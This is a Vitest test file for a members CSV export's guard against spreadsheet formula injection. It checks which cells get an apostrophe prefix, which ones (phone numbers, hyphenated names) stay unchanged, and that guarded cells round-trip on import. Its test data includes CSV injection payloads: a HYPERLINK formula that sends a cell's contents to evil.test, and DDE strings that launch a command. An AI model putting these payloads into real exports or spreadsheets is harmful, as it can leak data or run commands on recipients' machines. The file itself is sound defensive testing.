import { describe, expect, it } from "vitest";
import { couldRunAsFormula, csvCell, unguardCell } from "@/server/members/csv";

// The export's formula guard (OWASP CSV injection): hostile cells get a leading
// apostrophe; phone numbers and names stay as they are, so the file is usable.

describe("the CSV formula guard", () => {
  it.each([
    ['=HYPERLINK("http://evil.test?x="&A1,"Click")'],
    ["+cmd|' /C calc'!A0"],
    ["-2+3"],
    ["-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ["+44 20 7946 0958+HYPERLINK(\"x\")"],
    ["+1-555-0100"],
    ["-A1"],
    ["\t=1+1"],
    ["\r=1+1"],
  ])("guards %j", (cell) => {
    expect(couldRunAsFormula(cell)).toBe(true);
    expect(csvCell(cell).replace(/^"/, "")).toMatch(/^'/);
    // The importer reads the cell back as it was.
    const written = csvCell(cell);
    const unquoted = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
    expect(unguardCell(unquoted)).toBe(cell);
  });

  it.each([["+44 20 7946 0958"], ["+447400123456"], ["-"], ["-12"], ["Jean-Luc"], ["Smith-Jones"], ["O'Brien"], ["a@example.test"], ["Sales/EMEA"]])(
    "leaves %j as it is",
    (cell) => {
      expect(couldRunAsFormula(cell)).toBe(false);
      expect(csvCell(cell)).toBe(cell);
      expect(unguardCell(cell)).toBe(cell);
    },
  );

  it("still reads exports made when every leading + was guarded", () => {
    expect(unguardCell("'+447400123456")).toBe("+447400123456");
    expect(unguardCell("'plain")).toBe("'plain");
  });
});
